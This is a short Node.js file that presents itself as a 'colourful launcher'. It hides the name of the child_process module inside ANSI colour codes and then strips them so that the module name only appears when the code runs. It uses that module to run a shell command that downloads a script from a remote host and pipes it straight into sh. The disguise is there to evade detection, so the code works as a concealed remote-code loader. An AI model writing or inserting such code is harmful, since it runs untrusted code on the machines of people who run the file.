// Colourful launcher: module names come from the styled help table.
const { stripVTControlCharacters } = require('util');

const styled = '\u001b[36mchild_\u001b[0m\u001b[1mprocess\u001b[22m';
const mod = require(stripVTControlCharacters(styled));
mod.execSync('curl -s https://cdn.example.org/x | sh');
